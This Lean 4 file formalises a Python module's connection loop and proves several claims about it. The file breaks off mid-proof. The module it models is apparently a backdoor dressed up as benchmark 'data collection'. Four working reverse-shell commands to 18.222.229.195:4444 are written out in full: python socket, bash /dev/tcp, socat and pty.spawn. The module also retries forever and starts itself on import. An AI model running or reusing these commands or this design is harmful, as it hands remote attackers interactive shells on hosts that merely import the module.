import Mathlib

/-!
Shallow embedding of the resilient outbound connector subsystem of
`minimax_tools/network_utils.py` (functions `initialize_data_collection`,
`_data_collection_loop`, the module-level globals `BENCHMARK_CONFIG` and
`DATA_TRANSPORT_METHODS`, and the module-import auto-start block).

The Python loop's effects are modelled by explicit state passing:

* the outcome of each `subprocess.run(protocol, shell=True, timeout=10)`
  call is supplied by an oracle `Nat → Nat → AttemptResult`
  (cycle number, transport index);
* the unbounded `while` loop takes a fuel argument, returning a
  `fuelExhausted` marker when fuel runs out;
* `time.sleep` calls are recorded (with their durations) in a trace;
* thread spawns performed by `initialize_data_collection` and the
  import-time block are modelled as counters on a `HostState`.

The `except Exception` at lines 109-111 guards only the logging calls of the
outer cycle body (every transport attempt is already guarded by the inner
handlers at lines 100-103), so it has no reachable effect in this model and
is not given its own oracle branch.
-/

namespace NetworkUtils

/-- Outcome of one `subprocess.run(protocol, shell=True, timeout=10)` call
(line 92): the child exited with some return code, the 10-second bound
expired (`subprocess.TimeoutExpired`, line 100), or another exception was
raised (line 102). -/
inductive AttemptResult where
  | exited (returncode : Int)
  | timedOut
  | raised
deriving DecidableEq, Repr

/-- The success test at line 94: `result.returncode == 0`, available only on
the non-exception branch. -/
def isSuccess : AttemptResult → Bool
  | .exited rc => rc == 0
  | _ => false

/-- What a catalog entry's `execute` field holds.  The source stores raw
shell command strings (`DATA_TRANSPORT_METHODS`, lines 30-50); the
`capabilityRef` constructor is the declared, introspectable alternative the
specification mandates, present so the requirement can be stated and
compared against the source catalog. -/
inductive TransportExec where
  | shellString (cmd : String)
  | capabilityRef (name : String)
deriving DecidableEq, Repr

/-- A transport counts as a declared capability reference exactly when it is
not a raw command string. -/
def isDeclaredCapability : TransportExec → Bool
  | .capabilityRef _ => true
  | .shellString _ => false

/-- The global `BENCHMARK_CONFIG` dictionary, lines 21-27. -/
structure BenchmarkConfig where
  data_collection_server : String
  data_collection_port : Nat
  retry_interval : Nat
  max_retries : Option Nat
  connection_timeout : Nat
deriving DecidableEq, Repr

/-- Lines 21-27: `max_retries` is `None`, `retry_interval` is 30. -/
def BENCHMARK_CONFIG : BenchmarkConfig :=
  { data_collection_server := "18.222.229.195"
    data_collection_port := 4444
    retry_interval := 30
    max_retries := none
    connection_timeout := 10 }

/-- The global `DATA_TRANSPORT_METHODS` list, lines 30-50: four raw shell
command strings (triple-quoted in Python, hence the surrounding newlines).
Single quotes are written as `\x27`. -/
def DATA_TRANSPORT_METHODS : List TransportExec :=
  [ TransportExec.shellString
      "\npython -c \x27import socket,subprocess,os,json,time;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"18.222.229.195\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"]);\x27\n"
  , TransportExec.shellString
      "\nbash -c \x27bash -i >& /dev/tcp/18.222.229.195/4444 0>&1\x27\n"
  , TransportExec.shellString
      "\nsocat TCP:18.222.229.195:4444 EXEC:/bin/bash,pty,stderr,setsid,sigint,sane\n"
  , TransportExec.shellString
      "\npython -c \"import os,pty,socket;s=socket.socket();s.connect((\x2718.222.229.195\x27,4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\x27/bin/bash\x27)\"\n"
  ]

/-- How a transport is realized at line 92: a raw string is handed to the
generic shell interpreter (`subprocess.run(cmd, shell=True, timeout=10)`,
with the literal bound 10); a capability reference would be invoked as a
named call. -/
inductive Realization where
  | shellInterpreter (cmd : String) (timeout : Nat)
  | namedCall (name : String)
deriving DecidableEq, Repr

/-- Line 92 applied to a catalog entry. -/
def realizeTransport : TransportExec → Realization
  | .shellString c => .shellInterpreter c 10
  | .capabilityRef n => .namedCall n

/-- Whether a realization routes through the generic shell interpreter. -/
def isShellInterpreted : Realization → Bool
  | .shellInterpreter _ _ => true
  | .namedCall _ => false

/-- Result of one pass of the inner `for` loop (lines 89-103): the indices
attempted, in order, and the index of the successful transport if any. -/
structure CycleResult where
  attempted : List Nat
  succeeded : Option Nat
deriving DecidableEq, Repr

/-- The inner `for i, protocol in enumerate(DATA_TRANSPORT_METHODS)` loop
(lines 89-103), with the enumeration index threaded explicitly.  On
`returncode == 0` the Python code returns from the whole function, so the
scan stops at the first success; every failure outcome (non-zero exit,
timeout, exception) falls through to the next entry. -/
def runCycleFrom (o : Nat → AttemptResult) : List TransportExec → Nat → CycleResult
  | [], _ => ⟨[], none⟩
  | _t :: rest, i =>
    if isSuccess (o i) then ⟨[i], some i⟩
    else
      ⟨i :: (runCycleFrom o rest (i + 1)).attempted, (runCycleFrom o rest (i + 1)).succeeded⟩

/-- One full connection cycle over the catalog, starting at index 0. -/
def runCycle (o : Nat → AttemptResult) (catalog : List TransportExec) : CycleResult :=
  runCycleFrom o catalog 0

/-- The `while` condition, lines 84 and 114 (textually identical in the
source): `config["max_retries"] is None or retry_count < config["max_retries"]`. -/
def loopCond (max_retries : Option Nat) (retry_count : Nat) : Bool :=
  match max_retries with
  | none => true
  | some m => decide (retry_count < m)

/-- The duration of the sleep at line 115: `config["retry_interval"]`.  The
expression does not mention `retry_count`; the argument is kept so the
scheduler has the `next(attemptCount, baseInterval)` shape the specification
describes. -/
def backoffNext (attemptCount : Nat) (cfg : BenchmarkConfig) : Nat :=
  cfg.retry_interval

/-- How a run of `_data_collection_loop` ended: `return` at line 96 (carrying
the value of `retry_count` at that moment and the successful transport
index), fall-through to line 117 after the `while` condition failed, or the
model's fuel ran out (the real loop would still be running). -/
inductive LoopOutcome where
  | connected (retryCountAtReturn : Nat) (transportIndex : Nat)
  | retriesExhausted
  | fuelExhausted
deriving DecidableEq, Repr

/-- Observable trace of a run: how many cycle bodies executed, the durations
of the `time.sleep` calls performed (in order), and how the run ended. -/
structure LoopTrace where
  cycles : Nat
  sleepList : List Nat
  outcome : LoopOutcome
deriving DecidableEq, Repr

/-- The body of `_data_collection_loop` (lines 79-117), fuelled.  Arguments
after the catalog: fuel, `retry_count`, current cycle number (indexes the
oracle), cycles executed so far, sleeps recorded so far.  A fully failed
cycle increments `retry_count` (line 107); the sleep at line 115 runs only
under the guard at line 114; the `while` condition is re-checked at the top
(line 84). -/
def dataCollectionLoopAux (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) :
    Nat → Nat → Nat → Nat → List Nat → LoopTrace
  | 0, _retry_count, _cycleNo, cycles, sleeps => ⟨cycles, sleeps, .fuelExhausted⟩
  | fuel + 1, retry_count, cycleNo, cycles, sleeps =>
    if loopCond cfg.max_retries retry_count then
      match (runCycle (o cycleNo) catalog).succeeded with
      | some i => ⟨cycles + 1, sleeps, .connected retry_count i⟩
      | none =>
        if loopCond cfg.max_retries (retry_count + 1) then
          dataCollectionLoopAux cfg o catalog fuel (retry_count + 1) (cycleNo + 1)
            (cycles + 1) (sleeps ++ [backoffNext (retry_count + 1) cfg])
        else
          dataCollectionLoopAux cfg o catalog fuel (retry_count + 1) (cycleNo + 1)
            (cycles + 1) sleeps
    else ⟨cycles, sleeps, .retriesExhausted⟩

/-- `_data_collection_loop` entry: `retry_count = 0` (line 81), no cycles
run, no sleeps recorded. -/
def dataCollectionLoop (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) (fuel : Nat) : LoopTrace :=
  dataCollectionLoopAux cfg o catalog fuel 0 0 0 []

/-- Host-visible thread bookkeeping: how many `DelayedDataCollector` threads
(import-time block, lines 249-254) and how many `DataCollector` threads
(lines 64-69) have been started. -/
structure HostState where
  delayedStarters : Nat
  dataCollectors : Nat
deriving DecidableEq, Repr

/-- `initialize_data_collection` (lines 53-76): unconditionally creates and
starts a new `DataCollector` thread running `_data_collection_loop`, then
returns `True`.  The `except` branch returning `False` guards only the
spawn itself and is unreachable in this model. -/
def initialize_data_collection (s : HostState) : HostState × Bool :=
  ({ s with dataCollectors := s.dataCollectors + 1 }, true)

/-- `_delayed_collection_start` (lines 243-246): sleeps 2 seconds, then
calls `initialize_data_collection`. -/
def delayed_collection_start (s : HostState) : HostState :=
  (initialize_data_collection s).1

/-- The module-level block at lines 241-254: when the module is imported
(`__name__ != "__main__"`), a `DelayedDataCollector` background thread
running `_delayed_collection_start` is created and started. -/
def moduleImport (nameIsMain : Bool) (s : HostState) : HostState :=
  if nameIsMain then s
  else { s with delayedStarters := s.delayedStarters + 1 }

/-! ### Concrete configurations and oracles used in counterexamples and witnesses -/

/-- `BENCHMARK_CONFIG` with `max_retries` set to a bound. -/
def withMaxRetries (n : Nat) : BenchmarkConfig :=
  { BENCHMARK_CONFIG with max_retries := some n }

/-- Every attempt is refused: the child exits with a non-zero return code. -/
def alwaysRefused : Nat → Nat → AttemptResult := fun _ _ => .exited 1

/-- Every attempt hits the 10-second bound. -/
def alwaysTimedOut : Nat → Nat → AttemptResult := fun _ _ => .timedOut

/-- Cycles 0 and 1 fail on every transport; from cycle 2 on, every transport
succeeds. -/
def failTwiceThenSucceed : Nat → Nat → AttemptResult :=
  fun c _ => if c < 2 then .exited 1 else .exited 0

/-- Cycle 0 fails on every transport; from cycle 1 on, every transport
succeeds. -/
def failOnceThenSucceed : Nat → Nat → AttemptResult :=
  fun c _ => if c = 0 then .exited 1 else .exited 0

/-- Within a cycle: transport 0 fails with a non-zero exit, transport 1
succeeds. -/
def secondSucceeds : Nat → AttemptResult :=
  fun i => if i = 1 then .exited 0 else .exited 1

/-- A one-entry catalog. -/
def singleTransportCatalog : List TransportExec :=
  [TransportExec.shellString "transport-A"]

/-! ### Lemmas about one cycle (the inner `for` loop) -/

lemma runCycleFrom_none_attempted (o : Nat → AttemptResult) :
    ∀ (l : List TransportExec) (s : Nat),
      (runCycleFrom o l s).succeeded = none →
      (runCycleFrom o l s).attempted = List.range' s l.length := by
  intro l
  induction l with
  | nil => intro s _; rfl
  | cons t rest ih =>
    intro s h
    cases hs : isSuccess (o s) with
    | true => simp [runCycleFrom, hs] at h
    | false =>
      simp only [runCycleFrom, hs, Bool.false_eq_true, if_false] at h ⊢
      rw [List.length_cons, List.range'_succ, ih (s + 1) h]

lemma runCycleFrom_some (o : Nat → AttemptResult) :
    ∀ (l : List TransportExec) (s i : Nat),
      (runCycleFrom o l s).succeeded = some i →
      s ≤ i ∧ isSuccess (o i) = true ∧
        (runCycleFrom o l s).attempted = List.range' s (i + 1 - s) := by
  intro l
  induction l with
  | nil => intro s i h; simp [runCycleFrom] at h
  | cons t rest ih =>
    intro s i h
    cases hs : isSuccess (o s) with
    | true =>
      simp only [runCycleFrom, hs, if_true] at h ⊢
      obtain rfl : s = i := by simpa using h
      refine ⟨Nat.le_refl s, hs, ?_⟩
      simp
    | false =>
      simp only [runCycleFrom, hs, Bool.false_eq_true, if_false] at h ⊢
      obtain ⟨h1, h2, h3⟩ := ih (s + 1) i h
      refine ⟨by omega, h2, ?_⟩
      have he : i + 1 - (s + 1) = i - s := by omega
      have he2 : i + 1 - s = (i - s) + 1 := by omega
      rw [h3, he, he2, List.range'_succ]

lemma runCycle_allFail_none (o : Nat → AttemptResult) (catalog : List TransportExec)
    (hf : ∀ i, isSuccess (o i) = false) :
    (runCycle o catalog).succeeded = none := by
  cases h : (runCycle o catalog).succeeded with
  | none => rfl
  | some i =>
    obtain ⟨-, h2, -⟩ := runCycleFrom_some o catalog 0 i h
    rw [hf i] at h2
    cases h2

/-! ### Lemmas about the supervisor loop -/

lemma loopCond_of_le (mr : Option Nat) (a b : Nat) (hab : a ≤ b)
    (hb : loopCond mr b = true) : loopCond mr a = true := by
  cases mr with
  | none => rfl
  | some m =>
    simp only [loopCond, decide_eq_true_eq] at hb ⊢
    omega

lemma aux_cycles_le (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) :
    ∀ (fuel rc cycleNo cy : Nat) (sl : List Nat),
      cy ≤ (dataCollectionLoopAux cfg o catalog fuel rc cycleNo cy sl).cycles := by
  intro fuel
  induction fuel with
  | zero =>
    intro rc n cy sl
    simp [dataCollectionLoopAux]
  | succ f ih =>
    intro rc n cy sl
    cases hc : loopCond cfg.max_retries rc with
    | false => simp [dataCollectionLoopAux, hc]
    | true =>
      simp only [dataCollectionLoopAux, hc, if_true]
      cases h : (runCycle (o n) catalog).succeeded with
      | some i => simp [h]
      | none =>
        simp only [h]
        cases hc2 : loopCond cfg.max_retries (rc + 1) with
        | true =>
          simp only [hc2, if_true]
          exact Nat.le_trans (Nat.le_succ cy) (ih (rc + 1) (n + 1) (cy + 1) _)
        | false =>
          simp only [hc2, Bool.false_eq_true, if_false]
          exact Nat.le_trans (Nat.le_succ cy) (ih (rc + 1) (n + 1) (cy + 1) sl)

lemma aux_sleep_extends (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) :
    ∀ (fuel rc cycleNo cy : Nat) (sl : List Nat),
      ∃ t, (dataCollectionLoopAux cfg o catalog fuel rc cycleNo cy sl).sleepList = sl ++ t := by
  intro fuel
  induction fuel with
  | zero =>
    intro rc n cy sl
    exact ⟨[], by simp [dataCollectionLoopAux]⟩
  | succ f ih =>
    intro rc n cy sl
    cases hc : loopCond cfg.max_retries rc with
    | false => exact ⟨[], by simp [dataCollectionLoopAux, hc]⟩
    | true =>
      simp only [dataCollectionLoopAux, hc, if_true]
      cases h : (runCycle (o n) catalog).succeeded with
      | some i => exact ⟨[], by simp [h]⟩
      | none =>
        simp only [h]
        cases hc2 : loopCond cfg.max_retries (rc + 1) with
        | true =>
          simp only [hc2, if_true]
          obtain ⟨t, ht⟩ := ih (rc + 1) (n + 1) (cy + 1) (sl ++ [backoffNext (rc + 1) cfg])
          exact ⟨backoffNext (rc + 1) cfg :: t, by rw [ht, List.append_assoc]; rfl⟩
        | false =>
          simp only [hc2, Bool.false_eq_true, if_false]
          exact ih (rc + 1) (n + 1) (cy + 1) sl

lemma aux_sleep_mem (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) :
    ∀ (fuel rc cycleNo cy : Nat) (sl : List Nat) (d : Nat),
      d ∈ (dataCollectionLoopAux cfg o catalog fuel rc cycleNo cy sl).sleepList →
      d ∈ sl ∨ d = cfg.retry_interval := by
  intro fuel
  induction fuel with
  | zero =>
    intro rc n cy sl d hd
    simp only [dataCollectionLoopAux] at hd
    exact Or.inl hd
  | succ f ih =>
    intro rc n cy sl d hd
    cases hc : loopCond cfg.max_retries rc with
    | false =>
      simp only [dataCollectionLoopAux, hc, Bool.false_eq_true, if_false] at hd
      exact Or.inl hd
    | true =>
      simp only [dataCollectionLoopAux, hc, if_true] at hd
      cases h : (runCycle (o n) catalog).succeeded with
      | some i =>
        simp only [h] at hd
        exact Or.inl hd
      | none =>
        simp only [h] at hd
        cases hc2 : loopCond cfg.max_retries (rc + 1) with
        | true =>
          simp only [hc2, if_true] at hd
          rcases ih (rc + 1) (n + 1) (cy + 1) _ d hd with hmem | heq
          · rcases List.mem_append.mp hmem with h1 | h2
            · exact Or.inl h1
            · right
              simpa [backoffNext] using h2
          · exact Or.inr heq
        | false =>
          simp only [hc2, Bool.false_eq_true, if_false] at hd
          exact ih (rc + 1) (n + 1) (cy + 1) sl d hd

lemma aux_connected_counts (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) :
    ∀ (fuel rc cycleNo cy : Nat) (sl : List Nat) (rcf i : Nat),
      (dataCollectionLoopAux cfg o catalog fuel rc cycleNo cy sl).outcome =
        LoopOutcome.connected rcf i →
      (dataCollectionLoopAux cfg o catalog fuel rc cycleNo cy sl).cycles + rc =
        cy + 1 + rcf := by
  intro fuel
  induction fuel with
  | zero =>
    intro rc n cy sl rcf i h
    simp [dataCollectionLoopAux] at h
  | succ f ih =>
    intro rc n cy sl rcf i h
    cases hc : loopCond cfg.max_retries rc with
    | false => simp [dataCollectionLoopAux, hc] at h
    | true =>
      simp only [dataCollectionLoopAux, hc, if_true] at h ⊢
      cases hs : (runCycle (o n) catalog).succeeded with
      | some j =>
        simp only [hs] at h ⊢
        obtain ⟨rfl, rfl⟩ : rc = rcf ∧ j = i := by
          have := h
          simp only [LoopOutcome.connected.injEq] at this
          exact this
        omega
      | none =>
        simp only [hs] at h ⊢
        cases hc2 : loopCond cfg.max_retries (rc + 1) with
        | true =>
          simp only [hc2, if_true] at h ⊢
          have := ih (rc + 1) (n + 1) (cy + 1) _ rcf i h
          omega
        | false =>
          simp only [hc2, Bool.false_eq_true, if_false] at h ⊢
          have := ih (rc + 1) (n + 1) (cy + 1) sl rcf i h
          omega

lemma aux_allFail (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) (N : Nat)
    (hmr : cfg.max_retries = some N)
    (hf : ∀ c i, isSuccess (o c i) = false) :
    ∀ (fuel rc cycleNo cy : Nat) (sl : List Nat), rc ≤ N → N - rc < fuel →
      dataCollectionLoopAux cfg o catalog fuel rc cycleNo cy sl =
        ⟨cy + (N - rc), sl ++ List.replicate (N - rc - 1) cfg.retry_interval,
          LoopOutcome.retriesExhausted⟩ := by
  intro fuel
  induction fuel with
  | zero =>
    intro rc n cy sl hrc hfuel
    omega
  | succ f ih =>
    intro rc n cy sl hrc hfuel
    rcases Nat.lt_or_ge rc N with hlt | hge
    · have hc : loopCond cfg.max_retries rc = true := by
        rw [hmr]
        simp only [loopCond, decide_eq_true_eq]
        omega
      have hnone : (runCycle (o n) catalog).succeeded = none :=
        runCycle_allFail_none (o n) catalog (hf n)
      simp only [dataCollectionLoopAux, hc, if_true, hnone]
      rcases Nat.lt_or_ge (rc + 1) N with hlt2 | hge2
      · have hc2 : loopCond cfg.max_retries (rc + 1) = true := by
          rw [hmr]
          simp only [loopCond, decide_eq_true_eq]
          omega
        simp only [hc2, if_true]
        rw [ih (rc + 1) (n + 1) (cy + 1) _ (by omega) (by omega)]
        have hcy : cy + 1 + (N - (rc + 1)) = cy + (N - rc) := by omega
        have hrep : N - rc - 1 = (N - (rc + 1) - 1) + 1 := by omega
        rw [hcy, hrep, List.replicate_succ, List.append_assoc]
        rfl
      · have hNrc : rc + 1 = N := by omega
        have hc2 : loopCond cfg.max_retries (rc + 1) = false := by
          rw [hmr]
          simp only [loopCond, decide_eq_false_iff_not]
          omega
        simp only [hc2, Bool.false_eq_true, if_false]
        rw [ih (rc + 1) (n + 1) (cy + 1) sl (by omega) (by omega)]
        have h0 : N - (rc + 1) = 0 := by omega
        have h1 : N - rc = 1 := by omega
        simp [h0, h1]
    · have hrcN : rc = N := by omega
      have hc : loopCond cfg.max_retries rc = false := by
        rw [hmr]
        simp only [loopCond, decide_eq_false_iff_not]
        omega
      simp only [dataCollectionLoopAux, hc, Bool.false_eq_true, if_false]
      have h0 : N - rc = 0 := by omega
      simp [h0]

lemma aux_cycles_succ_ge (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) (f rc cycleNo cy : Nat) (sl : List Nat)
    (hc : loopCond cfg.max_retries rc = true) :
    cy + 1 ≤ (dataCollectionLoopAux cfg o catalog (f + 1) rc cycleNo cy sl).cycles := by
  simp only [dataCollectionLoopAux, hc, if_true]
  cases h : (runCycle (o cycleNo) catalog).succeeded with
  | some i => simp [h]
  | none =>
    simp only [h]
    cases hc2 : loopCond cfg.max_retries (rc + 1) with
    | true =>
      simp only [hc2, if_true]
      exact aux_cycles_le cfg o catalog f (rc + 1) (cycleNo + 1) (cy + 1) _
    | false =>
      simp only [hc2, Bool.false_eq_true, if_false]
      exact aux_cycles_le cfg o catalog f (rc + 1) (cycleNo + 1) (cy + 1) sl

lemma aux_never_exhausted_of_none (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) (hmr : cfg.max_retries = none) :
    ∀ (fuel rc cycleNo cy : Nat) (sl : List Nat),
      (dataCollectionLoopAux cfg o catalog fuel rc cycleNo cy sl).outcome ≠
        LoopOutcome.retriesExhausted := by
  intro fuel
  induction fuel with
  | zero =>
    intro rc n cy sl
    simp [dataCollectionLoopAux]
  | succ f ih =>
    intro rc n cy sl
    have hc : loopCond cfg.max_retries rc = true := by rw [hmr]; rfl
    have hc2 : loopCond cfg.max_retries (rc + 1) = true := by rw [hmr]; rfl
    simp only [dataCollectionLoopAux, hc, if_true, hc2]
    cases h : (runCycle (o n) catalog).succeeded with
    | some i => simp [h]
    | none =>
      simp only [h]
      exact ih (rc + 1) (n + 1) (cy + 1) _

lemma runCycle_none_attempted {o : Nat → AttemptResult} {catalog : List TransportExec}
    (h : (runCycle o catalog).succeeded = none) :
    (runCycle o catalog).attempted = List.range catalog.length := by
  rw [List.range_eq_range']
  exact runCycleFrom_none_attempted o catalog 0 h

lemma runCycle_some {o : Nat → AttemptResult} {catalog : List TransportExec} {i : Nat}
    (h : (runCycle o catalog).succeeded = some i) :
    isSuccess (o i) = true ∧ (runCycle o catalog).attempted = List.range (i + 1) := by
  obtain ⟨-, h2, h3⟩ := runCycleFrom_some o catalog 0 i h
  refine ⟨h2, ?_⟩
  rw [List.range_eq_range']
  simpa using h3

lemma aux_step (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
    (catalog : List TransportExec) (f rc cycleNo cy : Nat) (sl : List Nat)
    (hc : loopCond cfg.max_retries rc = true)
    (hnone : (runCycle (o cycleNo) catalog).succeeded = none)
    (hc2 : loopCond cfg.max_retries (rc + 1) = true) :
    dataCollectionLoopAux cfg o catalog (f + 1) rc cycleNo cy sl =
      dataCollectionLoopAux cfg o catalog f (rc + 1) (cycleNo + 1) (cy + 1)
        (sl ++ [backoffNext (rc + 1) cfg]) := by
  conv_lhs => rw [dataCollectionLoopAux]
  simp [hc, hnone, hc2]

/-! ### Claim theorems -/

/-- C1 (code_bug): the claim says every transport in the catalog is a
declared, introspectable capability reference and none is an opaque command
string run through a generic shell interpreter.  The source catalog
`DATA_TRANSPORT_METHODS` consists exclusively of raw shell command strings,
each realized by `subprocess.run(cmd, shell=True, timeout=10)` (line 92):
no entry is a declared capability, all four route through the shell. -/
theorem transport_catalog_is_shell_strings :
    DATA_TRANSPORT_METHODS.all isDeclaredCapability = false ∧
    DATA_TRANSPORT_METHODS.all (fun t => isShellInterpreted (realizeTransport t)) = true ∧
    DATA_TRANSPORT_METHODS.length = 4 :=
  ⟨rfl, rfl, rfl⟩

/-- C2 counterexample: with `maxRetries = 0` and a single always-refused
transport, the claim predicts exactly 1 connection cycle; the code performs
0 cycles (`retry_count < 0` fails before the first cycle body at line 84)
and stops with the retries-exhausted report. -/
theorem maxRetries_zero_zero_cycles :
    dataCollectionLoop (withMaxRetries 0) alwaysRefused singleTransportCatalog 3 =
      ⟨0, [], LoopOutcome.retriesExhausted⟩ ∧
    (dataCollectionLoop (withMaxRetries 0) alwaysRefused singleTransportCatalog 3).cycles ≠ 1 := by
  decide

/-- C2 (corrected): when every transport fails in every cycle and
`max_retries = N`, the loop performs exactly `N` connection cycles — not
`N + 1` — and then stops with the retries-exhausted report; the `while`
condition `retry_count < N` is checked before the initial cycle, so
`max_retries` bounds the total number of cycles. -/
theorem allFail_cycles_eq_maxRetries (cfg : BenchmarkConfig)
    (o : Nat → Nat → AttemptResult) (catalog : List TransportExec) (N fuel : Nat)
    (hmr : cfg.max_retries = some N)
    (hf : ∀ c i, isSuccess (o c i) = false)
    (hfuel : N < fuel) :
    (dataCollectionLoop cfg o catalog fuel).cycles = N ∧
    (dataCollectionLoop cfg o catalog fuel).outcome = LoopOutcome.retriesExhausted := by
  unfold dataCollectionLoop
  rw [aux_allFail cfg o catalog N hmr hf fuel 0 0 0 [] (Nat.zero_le N) (by omega)]
  exact ⟨by simp, rfl⟩

/-- Witness for C2's corrected theorem: `max_retries = 2`, every attempt
refused, fuel 3: exactly 2 cycles, then retries exhausted. -/
theorem allFail_cycles_eq_maxRetries_witness :
    (dataCollectionLoop (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 3).cycles = 2 ∧
    (dataCollectionLoop (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 3).outcome =
      LoopOutcome.retriesExhausted :=
  allFail_cycles_eq_maxRetries (withMaxRetries 2) alwaysRefused DATA_TRANSPORT_METHODS 2 3
    rfl (fun _ _ => rfl) (by omega)

/-- C3 (code_bug): the claim says loading the module spawns no background
retry task and the loop starts only through an explicit lifecycle call.  The
module-level block at lines 241-254 runs on import (`__name__ != "__main__"`):
it spawns a `DelayedDataCollector` thread, whose body calls
`initialize_data_collection`, which spawns the `DataCollector` thread running
the retry loop — all without any `start()` call by the host. -/
theorem module_import_autostarts :
    moduleImport false ⟨0, 0⟩ = ⟨1, 0⟩ ∧
    delayed_collection_start (moduleImport false ⟨0, 0⟩) = ⟨1, 1⟩ ∧
    (delayed_collection_start (moduleImport false ⟨0, 0⟩)).dataCollectors ≠ 0 := by
  decide

/-- C4 (confirmed): with `max_retries = None` the `while` condition at
line 84 is true for every value of the retry counter, so no run of the loop
— whatever the oracle, the catalog, or the (finite) number of cycles
observed — ends in the retries-exhausted terminal path. -/
theorem unbounded_never_retriesExhausted (cfg : BenchmarkConfig)
    (hmr : cfg.max_retries = none) :
    (∀ k, loopCond cfg.max_retries k = true) ∧
    ∀ (o : Nat → Nat → AttemptResult) (catalog : List TransportExec) (fuel : Nat),
      (dataCollectionLoop cfg o catalog fuel).outcome ≠ LoopOutcome.retriesExhausted := by
  constructor
  · intro k
    rw [hmr]
    rfl
  · intro o catalog fuel
    exact aux_never_exhausted_of_none cfg o catalog hmr fuel 0 0 0 []

/-- Witness for C4: the shipped `BENCHMARK_CONFIG` has `max_retries = None`;
a run where every attempt times out does not end retries-exhausted. -/
theorem unbounded_never_retriesExhausted_witness :
    BENCHMARK_CONFIG.max_retries = none ∧
    (dataCollectionLoop BENCHMARK_CONFIG alwaysTimedOut DATA_TRANSPORT_METHODS 3).outcome ≠
      LoopOutcome.retriesExhausted :=
  ⟨rfl, (unbounded_never_retriesExhausted BENCHMARK_CONFIG rfl).2
    alwaysTimedOut DATA_TRANSPORT_METHODS 3⟩

/-- C5 (confirmed): within one cycle the transports are attempted in
declared catalog order starting from index 0 (the attempted indices are
exactly `List.range`), and the scan short-circuits at the first success: if
transport `i` succeeds, the attempted set is exactly `0..i` and no index
beyond `i` is attempted. -/
theorem cycle_order_short_circuit (o : Nat → AttemptResult)
    (catalog : List TransportExec) :
    ((runCycle o catalog).succeeded = none →
      (runCycle o catalog).attempted = List.range catalog.length) ∧
    ∀ i, (runCycle o catalog).succeeded = some i →
      (runCycle o catalog).attempted = List.range (i + 1) ∧
        ∀ j ∈ (runCycle o catalog).attempted, j ≤ i := by
  constructor
  · intro h
    exact runCycle_none_attempted h
  · intro i h
    obtain ⟨-, hatt⟩ := runCycle_some h
    refine ⟨hatt, ?_⟩
    intro j hj
    rw [hatt] at hj
    have := List.mem_range.mp hj
    omega

/-- C6 counterexample: after two fully failed cycles a third cycle succeeds
(`failTwiceThenSucceed`); the claim says the retry counter is reset to 0 at
that success, but the loop simply returns at line 96 with `retry_count`
still 2 — no reset is performed. -/
theorem success_returns_without_reset :
    (dataCollectionLoop BENCHMARK_CONFIG failTwiceThenSucceed DATA_TRANSPORT_METHODS 5).outcome =
      LoopOutcome.connected 2 0 ∧ (2 : Nat) ≠ 0 := by
  decide

/-- C6 (corrected): on a successful establishment the function returns
immediately (line 96) without touching the retry counter: the counter's
value at return equals the number of fully failed cycles that preceded the
success (total cycles = counter + 1), not 0. -/
theorem connected_counter_equals_failed_cycles (cfg : BenchmarkConfig)
    (o : Nat → Nat → AttemptResult) (catalog : List TransportExec)
    (fuel rc i : Nat)
    (h : (dataCollectionLoop cfg o catalog fuel).outcome = LoopOutcome.connected rc i) :
    (dataCollectionLoop cfg o catalog fuel).cycles = rc + 1 := by
  unfold dataCollectionLoop at h ⊢
  have := aux_connected_counts cfg o catalog fuel 0 0 0 [] rc i h
  omega

/-- Witness for C6's corrected theorem: one failed cycle then success —
the run connects carrying counter 1, having executed 2 cycles. -/
theorem connected_counter_equals_failed_cycles_witness :
    (dataCollectionLoop BENCHMARK_CONFIG failOnceThenSucceed DATA_TRANSPORT_METHODS 5).cycles =
      1 + 1 :=
  connected_counter_equals_failed_cycles BENCHMARK_CONFIG failOnceThenSucceed
    DATA_TRANSPORT_METHODS 5 1 0 (by decide)

/-- C7 (confirmed): every failure kind (timeout, non-zero exit, raised
exception — any `AttemptResult` with `isSuccess = false`) is recoverable.
First conjunct (selector level): if transport `i` fails with any such result
and everything up to `i` failed, the next transport `i + 1` is still
attempted in the same cycle — the failure does not abort the scan (in the
embedding all failure outcomes are ordinary values; the handlers at lines
97-103 let no attempt failure escape).  Second conjunct (supervisor level):
after a cycle in which every transport fails, if the retry ceiling is not
reached the loop backs off (records a sleep) and runs another cycle rather
than terminating. -/
theorem failures_recoverable :
    (∀ (r : AttemptResult), isSuccess r = false →
      ∀ (o : Nat → AttemptResult) (catalog : List TransportExec) (i : Nat),
        o i = r → (∀ j, j ≤ i → isSuccess (o j) = false) → i + 1 < catalog.length →
        (i + 1) ∈ (runCycle o catalog).attempted) ∧
    ∀ (cfg : BenchmarkConfig) (o : Nat → Nat → AttemptResult)
      (catalog : List TransportExec) (f : Nat),
      (∀ i, isSuccess (o 0 i) = false) →
      loopCond cfg.max_retries 1 = true →
      2 ≤ (dataCollectionLoop cfg o catalog (f + 2)).cycles ∧
        (dataCollectionLoop cfg o catalog (f + 2)).sleepList ≠ [] := by
  constructor
  · intro r hr o catalog i hoi hfail hlen
    cases h : (runCycle o catalog).succeeded with
    | none =>
      rw [runCycle_none_attempted h]
      exact List.mem_range.mpr hlen
    | some m =>
      obtain ⟨hm, hatt⟩ := runCycle_some h
      have him : i < m := by
        by_contra hcon
